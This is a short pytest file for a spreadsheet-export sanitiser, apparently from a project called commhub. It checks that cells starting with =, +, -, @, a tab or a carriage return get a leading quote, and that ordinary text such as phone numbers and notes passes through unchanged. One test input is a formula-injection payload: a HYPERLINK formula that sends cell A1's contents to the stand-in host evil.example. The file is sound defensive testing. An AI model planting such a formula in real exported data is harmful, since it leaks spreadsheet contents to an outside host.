"""Exported cells never start a formula."""

from __future__ import annotations

import pytest

from commhub.domain.spreadsheet_cells import neutralised


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+79161234567",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_text_a_spreadsheet_would_run_goes_behind_a_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Call back tomorrow", "Перезвонить 2+2", " =not first", "'already quoted", "8 916 1"],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralised(text) == text
